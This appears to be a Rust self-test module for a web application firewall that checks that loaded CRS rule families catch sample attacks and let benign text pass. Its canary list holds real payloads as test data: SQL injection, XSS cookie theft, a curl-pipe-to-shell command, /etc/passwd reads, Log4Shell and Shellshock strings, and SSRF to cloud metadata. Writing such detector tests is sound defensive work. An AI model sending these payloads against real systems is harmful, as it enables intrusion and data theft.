//! One attack of each family that its rules must catch, and one text that they must all let pass.
//!
//! A directory may be damaged without any line of it being unreadable: a data file cut short, a file of another
//! version. And the engine's short cuts might be wrong about a rule. So before the rules are relied on, every family
//! of them must catch an attack that its rules are for, with the short cuts and without, and none may refuse a text
//! that is none.

use super::engine::matches_plainly;
use super::{Crs, Place, THRESHOLD};
use std::collections::BTreeSet;

/// Attacks by CRS's tag: each family must catch one of its own at least.
const CANARIES: &[(&str, &[&str])] = &[
    ("sqli", &["1' or 1=1 union select password from users-- -", "1; select sleep(9)", "1'/*!0and*/ 1=1"]),
    (
        "xss",
        &["<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "javascript:alert(1)"],
    ),
    (
        "rce",
        &[
            "; cat /etc/passwd",
            "$(curl 10.0.0.1/x|sh)",
            "() { :; }; /bin/bash -c id",
            "${jndi:ldap://x.example/a}",
        ],
    ),
    ("lfi", &["../../../../etc/passwd", "..\\..\\windows\\win.ini", "/../../x"]),
    ("rfi", &["http://10.0.0.1/shell.txt?", "file://10.0.0.1/x", "https://x.example/a.php??"]),
    (
        "injection-php",
        &["<?php eval($_GET['a']); ?>", "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}", "base64_decode("],
    ),
    ("injection-java", &["java.lang.Runtime", "${jndi:ldap://x.example/a}"]),
    (
        "injection-generic",
        &["require('child_process').exec('id')", "__proto__[a]=b", "{{7*7}}", "process.env"],
    ),
    (
        "ssrf",
        &[
            "http://169.254.169.254/latest/meta-data/",
            "gopher://2130706433/x",
            "data:text/html;base64,PHNjcmlwdD4=",
        ],
    ),
    (
        "protocol",
        &["a\r\nSet-Cookie: b=c", "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK", "GET / HTTP/1.1\r\n"],
    ),
    ("fixation", &["<script>document.cookie='a=b;expires=c;domain=d'</script>", ".cookie;expires=a"]),
];
/// Said by nobody who means harm; caught by a rule that catches everything.
const BENIGN: &[&str] = &["", "Window seat and a vegetarian meal, please.", "Müller, 2 adults"];

/// The directory's rules do not do what they are for.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
pub enum CanaryFailure {
    /// A family catches none of the attacks that it is for.
    #[error("the CRS rules against {family} ({rules} of them) catch none of {texts:?}")]
    Blind {
        /// CRS's tag for the attack.
        family: String,
        /// How many rules it has.
        rules: usize,
        /// What was tried.
        texts: Vec<String>,
    },
    /// A text that nobody would refuse reaches the threshold.
    #[error("the CRS rules {ids:?} would refuse {text:?}")]
    Noisy {
        /// The text.
        text: String,
        /// The rules that matched it.
        ids: Vec<u32>,
    },
    /// The engine's short cuts and the rule itself do not agree: a defect here, not in the directory.
    #[error("CRS rule {id} is misjudged on {text:?}")]
    Misjudged {
        /// The rule.
        id: u32,
        /// The text.
        text: String,
    },
}

impl Crs {
    /// The attacks that are tried for each family which has rules.
    #[must_use]
    pub fn canaries(&self) -> Vec<(&str, Vec<String>)> {
        let families: BTreeSet<&str> = self.rules.iter().map(|rule| rule.attack.as_str()).collect();
        families.into_iter().map(|family| (family, self.canaries_of(family))).collect()
    }

    /// Whether every family catches its attack and none refuses a benign text. It also warms what the rules keep.
    pub fn self_test(&self) -> Result<(), CanaryFailure> {
        for (family, texts) in self.canaries() {
            let caught =
                |text: &String| self.all(PLACE, text.as_bytes()).iter().any(|rule| rule.attack == family);
            if !texts.iter().any(caught) {
                let rules = self.rules.iter().filter(|rule| rule.attack == family).count();
                return Err(CanaryFailure::Blind { family: family.to_owned(), rules, texts });
            }
            texts.iter().try_for_each(|text| self.judges_alike(text))?;
        }
        for text in BENIGN {
            self.judges_alike(text)?;
            let found = self.all(PLACE, text.as_bytes());
            let adding = found.iter().filter(|rule| rule.misfires_on.is_none());
            if adding.clone().map(|rule| u32::from(rule.score)).sum::<u32>() >= THRESHOLD {
                let ids = adding.map(|rule| rule.id).collect();
                return Err(CanaryFailure::Noisy { text: (*text).to_owned(), ids });
            }
        }
        Ok(())
    }

    /// Ours for the families that CRS has; for another one what its patterns themselves say they match.
    fn canaries_of(&self, family: &str) -> Vec<String> {
        if let Some((_, texts)) = CANARIES.iter().find(|(known, _)| *known == family) {
            return texts.iter().map(|text| (*text).to_owned()).collect();
        }
        let rules = self.rules.iter().zip(&self.compiled).filter(|(rule, _)| rule.attack == family);
        let samples = rules.flat_map(|(_, compiled)| compiled.question.need.samples.iter().take(3));
        samples.map(|sample| String::from_utf8_lossy(sample).into_owned()).collect()
    }

    fn judges_alike(&self, text: &str) -> Result<(), CanaryFailure> {
        let found: BTreeSet<u32> = self.all(PLACE, text.as_bytes()).iter().map(|rule| rule.id).collect();
        for (rule, compiled) in self.rules.iter().zip(&self.compiled) {
            let plainly = compiled.looks.at(PLACE) && matches_plainly(compiled, text.as_bytes());
            if plainly != found.contains(&rule.id) {
                return Err(CanaryFailure::Misjudged { id: rule.id, text: text.to_owned() });
            }
        }
        Ok(())
    }
}

/// Where rules for arguments at large look.
const PLACE: Place<'_> = Place::Argument("remarks");
